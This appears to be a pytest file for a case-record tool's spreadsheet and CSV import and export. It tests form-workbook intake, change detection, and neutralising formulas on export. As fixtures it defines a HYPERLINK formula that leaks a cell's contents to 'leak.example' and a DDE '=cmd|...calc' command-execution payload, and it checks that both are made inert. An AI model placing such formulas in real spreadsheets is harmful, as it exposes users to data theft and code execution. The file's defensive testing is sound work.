"""Tables through the one way in: each row an item that knows where it stood, a second time nothing, out again inert."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

import desks
from r2p_desk.actions import session
from r2p_desk.actions.cases import create_case
from r2p_desk.actions.exporting import Asked, prepare
from r2p_desk.actions.importing import look_over, take_in
from r2p_desk.actions.session import OpenCase
from r2p_desk.domain.marking import Marking
from r2p_desk.domain.when import When
from r2p_desk.intake.telling import Columns
from table_files import rows, told_of, workbook

RUNS = '=HYPERLINK("http://leak.example/?"&A1,"open")'
HIGHEST = Marking("CONFIDENTIAL")


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Iterator[OpenCase]:
    home = desks.quick_home(tmp_path_factory.mktemp("tables"))
    with session.unlock(home, desks.PASSPHRASE) as desk, create_case(desk, "Valley", marking=HIGHEST) as made:
        yield made


def test_a_workbook_of_forms_comes_in_with_its_repeats_and_a_second_time_changes_nothing(
    case: OpenCase, tmp_path: Path
) -> None:
    main = rows(
        ("today", "grp/what_happened", "grp/where", "_uuid", "_submission_time", "_index", "username"),
        ("2024-03-04", "Wells were poisoned", "Upper valley", "u-1", "2024-03-05T08:00:00", "1", "amina"),
        ("2024-03-04", "A school was closed", "Lower valley", "u-2", "2024-03-05T09:00:00", "2", "amina"),
    )
    repeat = rows(("need", "_index", "_parent_index", "_submission__uuid"), ("Water for a week", "1", "1", "u-1"))
    path = tmp_path / "forms.xlsx"
    path.write_bytes(workbook({"Incidents": main, "needs": repeat}))
    plan = look_over(case, path)
    assert (plan.format, plan.new, len(plan.refused)) == ("odk", 3, 0)
    assert take_in(case, plan).new == 3
    titles = {fields["title"]: fields for _, _, fields in case.file.records("item")}
    assert titles["Wells were poisoned"]["provenance"]["row"] == 2
    assert titles["Water for a week"]["provenance"]["sheet"] == "needs"
    assert "amina" not in str(titles)
    again = look_over(case, path)
    assert (again.new, again.changed, again.same) == (0, 0, 3)


def test_a_row_that_says_something_else_is_a_change_of_the_same_item(case: OpenCase, tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    columns = Columns(dates="dmy")
    path.write_text("ID;Date;What happened\nN-1;03/04/2024;Three shots\nN-2;04/04/2024;Two arrests\n", encoding="utf-8")
    take_in(case, look_over(case, path, columns=columns))
    path.write_text("ID;Date;What happened\nN-1;03/04/2024;Four shots\nN-2;04/04/2024;Two arrests\n", encoding="utf-8")
    plan = look_over(case, path, columns=columns)
    assert (plan.new, plan.changed, plan.same) == (0, 1, 1)
    assert next(line.changes for line in plan.lines if line.state == "changed")["title"] == (
        "Three shots",
        "Four shots",
    )


@pytest.mark.parametrize("format_name", ["csv", "xlsx", "bagit"])
def test_text_that_a_spreadsheet_would_run_comes_in_as_text_and_leaves_inert(
    case: OpenCase, tmp_path: Path, format_name: str
) -> None:
    path = tmp_path / "hostile.csv"
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(
            [
                ("id", "title", "note", "date reported", "marking"),
                ("X-1", RUNS, "seen;=cmd|'/c calc'!A0", "2024-03-04", "unclassified"),
            ]
        )
    plan = look_over(case, path)
    assert "formula" in {one.code for one in plan.findings}
    take_in(case, plan)
    asked = Asked(format=format_name, to="Office A", ceiling=HIGHEST, day=When("2024-05-02"))
    cells: list[str] = []
    for name, content in dict(prepare(case, asked).made.files).items():
        if name.endswith(".csv"):
            for sign in ",;":
                read = csv.reader(io.StringIO(content.decode(), newline=""), delimiter=sign)
                cells += [cell for line in read for cell in line]
        elif name.endswith(".xlsx"):
            told = told_of(content, "xlsx")
            assert "formula" not in told.codes
            cells += [cell for row in told.values for cell in row]
    assert any("leak.example" in cell for cell in cells)
    assert [cell for cell in cells if cell.lstrip(' "')[:1] in ("=", "@", "+")] == []
